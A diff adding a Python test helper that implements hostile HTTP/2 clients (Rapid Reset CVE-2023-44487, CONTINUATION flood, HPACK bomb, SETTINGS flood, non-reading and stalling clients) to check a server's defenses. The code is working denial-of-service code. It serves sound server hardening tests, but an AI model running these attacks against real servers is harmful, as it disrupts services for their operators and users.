@@ -1,0 +1,290 @@
+#!/usr/bin/env python3
+"""Hostile HTTP/2 clients for the e2e tests (driven by h2_hostile.rs).
+
+usage: h2_attacks.py ATTACK HOST PORT AUTHORITY
+
+Frames are built with hyperframe and hpack (the `h2` package's own codecs), so each attack
+sends exactly the bytes it means to, valid or not. Each attack is bounded in frames and time,
+then reads what the server sent until it closes the connection or a deadline passes, and
+prints one JSON line: whether the server closed the connection, the GOAWAY error code if any,
+RST_STREAM codes, response statuses, and how many frames were sent.
+"""
+
+import json
+import socket
+import sys
+import time
+
+from hpack import Encoder, Decoder
+from hpack.struct import NeverIndexedHeaderTuple
+from hyperframe.frame import (
+    ContinuationFrame,
+    Frame,
+    GoAwayFrame,
+    HeadersFrame,
+    PingFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+CANCEL = 0x8
+ENHANCE_YOUR_CALM = 0xB
+
+
+class Client:
+    def __init__(self, host, port, rcvbuf=None, settings=None, answer_pings=True):
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        if rcvbuf:
+            # A small receive buffer: a client that does not read blocks the server quickly.
+            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
+        self.sock.connect((host, port))
+        self.buf = b""
+        self.closed = False
+        self.goaway = None
+        self.rst = {}
+        self.statuses = {}
+        self.sent = 0
+        self.pings = 0
+        self.answer_pings = answer_pings
+        self.decoder = Decoder()
+        self.decoder.max_header_list_size = 1 << 20
+        s = SettingsFrame(0)
+        for key, value in (settings or {}).items():
+            s.settings[key] = value
+        self.sock.sendall(PREFACE + s.serialize())
+
+    def send(self, frames, timeout=5.0):
+        """Sends frames; False if the server stopped reading (or closed) before they all went."""
+        data = b"".join(f.serialize() for f in frames)
+        self.sock.settimeout(timeout)
+        try:
+            self.sock.sendall(data)
+        except (socket.timeout, OSError):
+            return False
+        self.sent += len(frames)
+        return True
+
+    def poll(self, timeout):
+        """Reads for up to `timeout` seconds (less if the server closes); answers PINGs."""
+        deadline = time.monotonic() + timeout
+        while not self.closed:
+            left = deadline - time.monotonic()
+            if left <= 0:
+                return
+            self.sock.settimeout(left)
+            try:
+                chunk = self.sock.recv(1 << 16)
+            except socket.timeout:
+                return
+            except OSError:
+                self.closed = True
+                return
+            if not chunk:
+                self.closed = True
+                return
+            self.buf += chunk
+            self._parse()
+
+    def _parse(self):
+        while len(self.buf) >= 9:
+            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
+            if len(self.buf) < 9 + length:
+                return
+            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
+            self.buf = self.buf[9 + length :]
+            if isinstance(frame, GoAwayFrame):
+                self.goaway = frame.error_code
+            elif isinstance(frame, RstStreamFrame):
+                self.rst[frame.error_code] = self.rst.get(frame.error_code, 0) + 1
+            elif isinstance(frame, HeadersFrame):
+                try:
+                    headers = dict(self.decoder.decode(frame.data))
+                    status = headers.get(b":status", headers.get(":status"))
+                    if isinstance(status, bytes):
+                        status = status.decode()
+                    self.statuses[status] = self.statuses.get(status, 0) + 1
+                except Exception:  # trailers split across CONTINUATION: not needed here
+                    pass
+            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
+                self.pings += 1
+                if not self.answer_pings:
+                    continue
+                try:
+                    self.sock.sendall(PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
+                except OSError:
+                    pass
+
+    def report(self, attack, **extra):
+        out = {
+            "attack": attack,
+            "closed": self.closed,
+            "goaway": self.goaway,
+            "rst": {str(k): v for k, v in self.rst.items()},
+            "statuses": self.statuses,
+            "sent": self.sent,
+            "pings": self.pings,
+        }
+        out.update(extra)
+        print(json.dumps(out))
+
+
+def request_block(authority, path="/", extra=()):
+    """A header block with no dynamic-table insertions, so the same bytes can open any stream."""
+    headers = [
+        (":method", "GET"),
+        (":scheme", "http"),
+        (":authority", authority),
+        (":path", path),
+    ] + list(extra)
+    return Encoder().encode([NeverIndexedHeaderTuple(k, v) for k, v in headers])
+
+
+def headers(stream, block, end_stream=True, end_headers=True):
+    flags = []
+    if end_stream:
+        flags.append("END_STREAM")
+    if end_headers:
+        flags.append("END_HEADERS")
+    return HeadersFrame(stream, block, flags=flags)
+
+
+def rapid_reset(c, authority):
+    """CVE-2023-44487: open a stream and cancel it at once, as fast as possible."""
+    block = request_block(authority)
+    stream = 1
+    for _ in range(200):  # up to 20,000 streams
+        frames = []
+        for _ in range(100):
+            frames += [headers(stream, block), RstStreamFrame(stream, error_code=CANCEL)]
+            stream += 2
+        if not c.send(frames):
+            break
+        c.poll(0.001)
+        if c.closed:
+            break
+    c.poll(10)
+
+
+def continuation_flood(c, authority):
+    """One header block that never ends: CONTINUATION frames without END_HEADERS."""
+    block = request_block(authority)
+    frames = [headers(1, block, end_stream=True, end_headers=False)]
+    filler = Encoder().encode([NeverIndexedHeaderTuple("x-filler", "f" * 1000)])
+    for _ in range(100):  # up to 10,000 frames, ~10 MB
+        frames += [ContinuationFrame(1, filler) for _ in range(100)]
+        if not c.send(frames):
+            break
+        frames = []
+        c.poll(0.001)
+        if c.closed:
+            break
+    c.poll(10)
+
+
+def hpack_bomb(c, authority):
+    """A 4 KB header put once in the dynamic table, then referenced thousands of times per
+    request: a few KB on the wire, tens of MB decoded."""
+    encoder = Encoder()
+    base = [
+        (":method", "GET"),
+        (":scheme", "http"),
+        (":authority", authority),
+        (":path", "/bomb"),
+    ]
+    big = ("x-bomb", "b" * 4000)
+    first = encoder.encode(base + [big])  # indexes x-bomb at 62
+    rest = request_block(authority, "/bomb")
+    bomb = rest + bytes([0x80 | 62]) * 16000
+    stream = 1
+    frames = [headers(stream, first)]
+    stream += 2
+    for _ in range(20):  # up to 2,000 bombs
+        for _ in range(100):
+            frames.append(headers(stream, bomb))
+            stream += 2
+        if not c.send(frames):
+            break
+        frames = []
+        c.poll(0.01)
+        if c.closed:
+            break
+    c.poll(10)
+
+
+def settings_flood(c, authority, wait):
+    """SETTINGS frames as fast as possible, never reading the ACKs each one demands."""
+    frame = SettingsFrame(0)
+    for _ in range(200):  # up to 2,000,000 frames
+        if not c.send([frame] * 10000, timeout=2.0):
+            break
+    time.sleep(wait)
+    c.poll(10)
+
+
+def never_reads(c, authority, wait):
+    """Opens big responses with huge windows, then never reads: the server must neither buffer
+    them all nor keep the connection."""
+    c.send([WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535)])
+    block = request_block(authority, "/?bytes=4194304")
+    c.send([headers(1 + 2 * i, block) for i in range(100)])
+    time.sleep(wait)
+    c.poll(10)
+
+
+def too_many_streams(c, authority, wait):
+    """300 streams that never finish their request body: past the limit they are refused."""
+    block = request_block(authority, "/hold", [("content-length", "10")])
+    c.send([headers(1 + 2 * i, block, end_stream=False) for i in range(300)])
+    c.poll(wait)
+
+
+def stall_stream(c, authority, wait):
+    """A live client (it reads, answers PINGs, keeps the connection window open) that never
+    opens stream 1's window after its first 64 KB: only that stream must be given up. After
+    `wait`, it opens the window to see what the server did with the stream."""
+    c.send([WindowUpdateFrame(0, window_increment=(1 << 30))])
+    c.send([headers(1, request_block(authority, "/"))])
+    c.poll(wait)
+    c.send([WindowUpdateFrame(1, window_increment=(1 << 30))])
+    c.poll(5)
+
+
+def main():
+    attack, host, port, authority = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
+    wait = float(sys.argv[5]) if len(sys.argv) > 5 else 4.0
+    started = time.monotonic()
+    if attack == "rapid_reset":
+        c = Client(host, port)
+        rapid_reset(c, authority)
+    elif attack == "continuation_flood":
+        c = Client(host, port)
+        continuation_flood(c, authority)
+    elif attack == "hpack_bomb":
+        c = Client(host, port)
+        hpack_bomb(c, authority)
+    elif attack == "settings_flood":
+        c = Client(host, port, rcvbuf=4096)
+        settings_flood(c, authority, wait)
+    elif attack == "never_reads":
+        c = Client(host, port, rcvbuf=4096, settings={SettingsFrame.INITIAL_WINDOW_SIZE: (1 << 31) - 1})
+        never_reads(c, authority, wait)
+    elif attack == "too_many_streams":
+        c = Client(host, port)
+        too_many_streams(c, authority, wait)
+    elif attack in ("idle_alive", "idle_dead"):
+        # An idle connection whose client answers PINGs (alive) or reads but never answers
+        # them (dead, say a half-broken middlebox): only the dead one is closed.
+        c = Client(host, port, answer_pings=attack == "idle_alive")
+        c.poll(wait)
+    elif attack == "stall_stream":
+        c = Client(host, port)
+        stall_stream(c, authority, wait)
+    else:
+        sys.exit(f"unknown attack {attack}")
+    c.report(attack, seconds=round(time.monotonic() - started, 2))
+
+
+if __name__ == "__main__":
+    main()
